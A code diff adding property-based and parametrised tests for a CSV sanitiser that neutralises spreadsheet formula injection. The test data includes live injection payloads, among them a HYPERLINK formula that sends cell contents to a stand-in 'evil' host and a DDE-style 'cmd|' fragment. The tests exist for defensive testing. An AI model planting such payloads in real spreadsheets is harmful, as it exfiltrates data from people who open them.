@@ -2,13 +2,17 @@
 
 import csv
 from pathlib import Path
+from tempfile import TemporaryDirectory
 
 import polars as pl
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from python_calamine import CalamineWorkbook
 
 from vqlogic import csvrows, load_rulesets, tablerun
 from vqlogic.cli import main
+from vqlogic.inert import inert
 from vqlogic.routecolumns import RESULT_COLUMNS
 
 TEXT = "no,name,occupation_years,certificate_5\n01,王,5,是\n02,NA,,\n03,=1+1,2.5,no\n"
@@ -93,6 +97,52 @@ def test_other_columns_stay_byte_for_byte_and_only_live_formulas_are_quieted(tmp
     lines = (tmp_path / "out.csv").read_text(encoding="utf-8").splitlines()[1:]
     carried = [line.rsplit(",", 4)[0] for line in lines]
     assert [cell.strip('"') for cell in carried] == ["x", "007 ", "-3", "'-3+cmd|x", "'@x", "'=1,2", "+8613800000000", "-"]
+
+
+LIVE = [
+    "=1+1",
+    "@x",
+    "\t=1",
+    "\r=1",
+    '+"a"&HYPERLINK("http://evil/?"&A1)',
+    "-1,5+A1",
+    "-;x",
+    '-"1"',
+    "+86 10",
+    "-3-",
+    "-1e",
+    "+1,2",
+]
+HARMLESS = ["-3", "+4.5", "-1.2e+10", "-", "a=b", "王", "", '"', "'=1", "x\n=1", "5,-3,=1"]
+CELLS = st.sampled_from(LIVE + HARMLESS) | st.text(st.sampled_from("=@+-\t\r\n\"',;.1eEa"), max_size=6)
+
+
+@given(st.lists(st.lists(CELLS, min_size=3, max_size=3), min_size=1, max_size=4), st.sampled_from(",;\t"), st.booleans())
+def test_every_cell_that_is_written_is_inert_whatever_stands_beside_it(table, separator, enclosed):
+    style = csv.QUOTE_ALL if enclosed else csv.QUOTE_MINIMAL
+    with TemporaryDirectory() as folder:
+        source, output = Path(folder) / "in.csv", Path(folder) / "out.csv"
+        with source.open("w", encoding="utf-8", newline="") as file:
+            writer = csv.writer(file, delimiter=separator, quoting=style)
+            writer.writerows([["a", "b", "c", "age"], *([*row, "20"] for row in table)])
+        assert run(source, "-o", output) == 0
+        with output.open(encoding="utf-8", newline="") as file:
+            found = [row[:3] for row in csv.reader(file, delimiter=separator)][1:]
+        assert found == [[inert(cell) for cell in row] for row in table]
+        frame = pl.DataFrame([*table], schema=["a", "b", "c"], orient="row").with_columns(age=20)
+        frame.write_parquet(Path(folder) / "in.parquet")
+        assert run(Path(folder) / "in.parquet", "-o", output) == 0
+        assert [row[:3] for row in rows(output)[1:]] == [[inert(cell) for cell in row] for row in table]
+
+
+@pytest.mark.parametrize("cell", LIVE)
+def test_what_a_spreadsheet_would_run_is_live(cell):
+    assert inert(cell) == f"'{cell}"
+
+
+@pytest.mark.parametrize("cell", HARMLESS)
+def test_what_it_would_not_run_is_not(cell):
+    assert inert(cell) == cell
 
 
 def test_a_header_and_a_refused_cell_are_quieted_too(tmp_path):
